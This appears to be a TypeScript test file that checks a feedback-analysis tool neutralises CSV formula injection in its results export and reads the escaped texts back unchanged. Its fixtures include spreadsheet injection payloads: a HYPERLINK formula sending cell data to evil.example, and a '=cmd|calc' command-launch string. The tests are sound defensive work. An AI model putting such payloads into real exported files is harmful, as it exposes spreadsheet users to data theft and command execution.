// CSV formula injection (OWASP "CSV Injection"): the results CSV Analyze Feedback writes puts an apostrophe before a
// cell a spreadsheet would run as a formula (= + - @, tab, carriage return first; plain numbers untouched) and before
// one that starts with an apostrophe; every reader of such a file (the Report view, generate's evidence, analyze read
// again, training and predict) drops exactly one, so the texts are the customers' own. A user's CSV is never unescaped.
import assert from 'node:assert/strict';
import * as fs from 'node:fs';
import * as os from 'node:os';
import * as path from 'node:path';
import { analyzeFeedback, disposeAnalysis, readItemResults, writeReport, type AnalysisResult } from '../../src/core/analysis';
import { csvCell } from '../../src/core/analysis/writers';
import { escapeFormula, isResultsCsvHeader, RESULTS_CSV_COLUMNS, unescapeFormula } from '../../src/core/csvFormula';
import { loadEvidence } from '../../src/core/generate';
import { readFeedbackFile } from '../../src/core/readers';
import { saveClassifier } from '../../src/core/train/artifact';
import { readTable } from '../../src/core/train/csv';
import { predictFile } from '../../src/core/train/predict';
import { trainClassifier } from '../../src/core/train/trainer';
import { loadReport } from '../../src/extension/reportData';
import { LexiconClassifier } from '../fixtures/feedback/lexicon-classifier';

/** Feedback a customer could write, each a formula or #NAME? in a spreadsheet unless escaped (or an apostrophe first). */
const TEXTS = [
  '=HYPERLINK("http://evil.example/?"&A1,"click here")',
  '+1 for dark mode, the app is great',
  '- crashes on start, terrible',
  '@support the export is broken',
  "'quoted' right at the start, love it",
  "''two apostrophes and a bad crash",
  '=1+2 is what the calculator shows, fine',
  'a plain review with nothing to escape',
];
const NOTES = ['-1 star', '@here', "'note", '=cmd|calc', '+add', 'plain', '-', "''"];
const DELTAS = ['-0.25', '+3', '-7', '1e-5', '+0.5', '-12', '3', '-.5'];

const q = (s: string) => `"${s.replace(/"/g, '""')}"`;

describe('CSV formula injection in results.csv', () => {
  let dir: string;
  let result: AnalysisResult;
  let resultsCsv: string;
  let reportDir: string;
  /** The items as analyzed (what every reader must give back). */
  let analyzed: { text: string; fields?: Record<string, string> }[];

  before(async () => {
    dir = fs.mkdtempSync(path.join(os.tmpdir(), 'pf-csv-formula-'));
    const feedback = path.join(dir, 'feedback.csv');
    const rows = TEXTS.map((t, i) => [String(i + 1), q(t), q(NOTES[i]), DELTAS[i]].join(','));
    fs.writeFileSync(feedback, ['id,feedback,note,delta', ...rows].join('\n') + '\n');
    result = await analyzeFeedback([feedback], { classifier: new LexiconClassifier(), tempDir: dir, column: 'feedback' });
    analyzed = [];
    for await (const it of readItemResults(result)) analyzed.push(it);
    const paths = await writeReport(result, { workspaceDir: dir, baseName: 'feedback' });
    resultsCsv = paths.resultsCsv;
    reportDir = paths.dir;
  });
  after(async () => {
    await disposeAnalysis(result);
    fs.rmSync(dir, { recursive: true, force: true });
  });

  it('escapes a string cell starting with = + - @ tab or CR, and an apostrophe, with one apostrophe', () => {
    assert.equal(csvCell('=HYPERLINK("http://evil/?"&A1,"click")'), `"'=HYPERLINK(""http://evil/?""&A1,""click"")"`);
    assert.equal(csvCell('=1+1'), "'=1+1");
    assert.equal(csvCell('+1 for dark mode'), "'+1 for dark mode");
    assert.equal(csvCell('- crashes on start'), "'- crashes on start");
    assert.equal(csvCell('@channel down'), "'@channel down");
    assert.equal(csvCell('\t=1+1'), `"'\t=1+1"`);
    assert.equal(csvCell('\r=1+1'), `"'\r=1+1"`);
    assert.equal(csvCell("'tis the season"), "''tis the season");
    assert.equal(csvCell("''"), "'''");
    assert.equal(csvCell('-'), "'-");
    // the rest as before
    assert.equal(csvCell('a = b + c'), 'a = b + c');
    assert.equal(csvCell(' leading space'), '" leading space"');
    assert.equal(csvCell(''), '');
  });

  it('leaves plain numbers alone, as numbers and as strings', () => {
    for (const n of [-0.25, 3, -7, 0, 1e-7]) assert.equal(csvCell(n), String(n));
    for (const s of ['-0.25', '+3', '-7', '1e-5', '+0.5', '-.5', '-1E+3', '42']) assert.equal(csvCell(s), s);
    // not a number: a formula or #NAME? in a spreadsheet
    for (const s of ['-1,5', '-Infinity', '+3 stars', '-1-1', '--1']) assert.equal(escapeFormula(s), `'${s}`);
  });

  it('writes results.csv with the formula-like cells escaped and the numeric ones untouched', () => {
    const csv = fs.readFileSync(resultsCsv, 'utf8');
    assert.ok(csv.startsWith('\uFEFFsource,line,text,label,score,negative,neutral,positive,'), csv.slice(0, 120));
    assert.ok(csv.includes(`"'=HYPERLINK(""http://evil.example/?""&A1,""click here"")"`));
    assert.ok(csv.includes(`"'+1 for dark mode, the app is great"`));
    assert.ok(csv.includes(`"'- crashes on start, terrible"`));
    assert.ok(csv.includes(`'@support the export is broken`));
    assert.ok(csv.includes(`"''quoted' right at the start, love it"`));
    assert.ok(csv.includes(`'''two apostrophes and a bad crash`));
    for (const n of ["'-1 star", "'@here", "''note", "'=cmd|calc", "'+add", "'-", "'''"]) assert.ok(csv.includes(`,${n},`) || csv.includes(`,${n}\r\n`), n);
    // no cell of the file starts with a formula character unless it is a plain number
    for (const line of csv.replace(/^\uFEFF/, '').split('\r\n').filter(Boolean)) {
      for (const cell of line.split(',')) {
        const v = cell.replace(/^"/, '');
        if (/^[=+\-@\t\r]/.test(v)) assert.match(v, /^[+-]?(\d+\.?\d*|\.\d+)([eE][+-]?\d+)?$/, `unescaped cell ${cell} in ${line}`);
      }
    }
    for (const d of DELTAS) assert.ok(csv.includes(`,${d}\r\n`) || csv.includes(`,${d},`), d);
  });

  it("the Report view's data loader gives the customers' texts back exactly", async () => {
    const { model } = await loadReport(reportDir, [dir]);
    assert.deepEqual(model.items.map((it) => it.text).sort(), analyzed.map((it) => it.text).sort());
    assert.deepEqual(model.items.map((it) => it.text).sort(), [...TEXTS].sort());
  });

  it("generate's evidence reader gives the texts and fields back exactly", async () => {
    const ev = await loadEvidence([resultsCsv]);
    assert.equal(ev.files[0].kind, 'analysis');
    assert.deepEqual(ev.items.map((it) => it.text), analyzed.map((it) => it.text));
    assert.deepEqual(ev.items.map((it) => it.fields.note), NOTES);
    assert.deepEqual(ev.items.map((it) => it.fields.delta), DELTAS);
    // a report folder stands for its results too
    assert.deepEqual((await loadEvidence([reportDir])).items.map((it) => it.text), analyzed.map((it) => it.text));
  });

  it('analyzing results.csv again reads the texts and fields exactly', async () => {
    const { items, file } = await readFeedbackFile(resultsCsv);
    assert.equal(file.textColumn, 'text');
    assert.equal(file.table?.formulaEscaped, true);
    assert.deepEqual(items.map((it) => it.text), analyzed.map((it) => it.text));
    assert.deepEqual(items.map((it) => it.fields?.note), NOTES);
    assert.deepEqual(items.map((it) => it.fields?.delta), DELTAS);
    const again = await analyzeFeedback([resultsCsv], { classifier: new LexiconClassifier(), tempDir: dir, column: 'text' });
    try {
      const texts: string[] = [];
      for await (const it of readItemResults(again)) texts.push(it.text);
      assert.deepEqual(texts, analyzed.map((it) => it.text));
      // and its own results.csv is escaped again, byte for byte the same texts
      const paths = await writeReport(again, { workspaceDir: dir, baseName: 'again' });
      const { model } = await loadReport(paths.dir, [dir]);
      assert.deepEqual(model.items.map((it) => it.text).sort(), [...TEXTS].sort());
    } finally {
      await disposeAnalysis(again);
    }
  });

  it('training reads the texts exactly; predict copies the results cells as written (still escaped)', async () => {
    const t = await readTable(resultsCsv);
    assert.equal(t.formulaEscaped, true);
    assert.deepEqual(t.data[t.columns.indexOf('text')], analyzed.map((it) => it.text));
    assert.deepEqual(t.data[t.columns.indexOf('note')], NOTES);
    const model = await saveClassifier(await trainClassifier(await readTable(resultsCsv), { target: 'label', features: ['text'], model: 'logreg' }), { parent: dir, name: 'm' });
    const out = path.join(dir, 'predictions.csv');
    await predictFile(model, resultsCsv, out);
    const inputText = fs.readFileSync(resultsCsv, 'utf8'), outputText = fs.readFileSync(out, 'utf8');
    // results.csv starts with a BOM (for Excel): so does the predictions file made from it
    assert.equal(inputText.startsWith('\uFEFF'), true);
    assert.equal(outputText.startsWith('\uFEFF'), true);
    const input = inputText.replace(/^\uFEFF/, '').split('\r\n').filter(Boolean);
    const output = outputText.replace(/^\uFEFF/, '').split('\n').filter(Boolean);
    assert.equal(output.length, input.length);
    // each output line is its input line with the prediction and confidence after it
    for (let i = 0; i < input.length; i++) assert.ok(output[i].startsWith(`${input[i]},`), `${output[i]}\n!= ${input[i]}`);
    // and read back, the predictions file gives the texts exactly too
    assert.deepEqual((await readFeedbackFile(out, { column: 'text' })).items.map((it) => it.text), analyzed.map((it) => it.text));
  });

  it("never unescapes a user's own CSV whose cells start with an apostrophe", async () => {
    const user = path.join(dir, 'user.csv');
    fs.writeFileSync(user, "id,text,note\n1,'tis the season to complain about crashes,'x\n2,\"'quoted' and slow\",''\n3,'=1+1 literally,ok\n");
    const want = ["'tis the season to complain about crashes", "'quoted' and slow", "'=1+1 literally"];
    const { items, file } = await readFeedbackFile(user, { column: 'text' });
    assert.equal(file.table?.formulaEscaped, undefined);
    assert.deepEqual(items.map((it) => it.text), want);
    assert.deepEqual(items.map((it) => it.fields?.note), ["'x", "''", 'ok']);
    assert.deepEqual((await loadEvidence([user])).items.map((it) => it.text), want);
    const t = await readTable(user);
    assert.equal(t.formulaEscaped, undefined);
    assert.deepEqual(t.data[1], want);
    // a hand-made report whose CSV lacks the results' fixed columns is a user's table too
    const rd = path.join(dir, 'ws', '.product-forge', 'reports', 'hand-1');
    fs.mkdirSync(rd, { recursive: true });
    fs.writeFileSync(path.join(rd, 'results.csv'), `source,line,text,label\nfb.txt,1,${want[0]},negative\nfb.txt,2,${q(want[1])},negative\n`);
    assert.deepEqual((await loadReport(rd, [])).model.items.map((it) => it.text), want.slice(0, 2));
  });

  it('recognises a results header by its fixed columns only', () => {
    assert.ok(isResultsCsvHeader([...RESULTS_CSV_COLUMNS]));
    assert.ok(isResultsCsvHeader(['\uFEFFsource', ...RESULTS_CSV_COLUMNS.slice(1), 'drivers', 'rating']));
    assert.ok(!isResultsCsvHeader(RESULTS_CSV_COLUMNS.slice(0, 7)));
    assert.ok(!isResultsCsvHeader(['id', ...RESULTS_CSV_COLUMNS]));
    assert.ok(!isResultsCsvHeader(['source', 'line', 'text', 'sentiment', 'score', 'negative', 'neutral', 'positive']));
    for (const s of [...TEXTS, ...NOTES, ...DELTAS, '', "'", '\t=x', '\r@y']) assert.equal(unescapeFormula(escapeFormula(s)), s);
  });
});
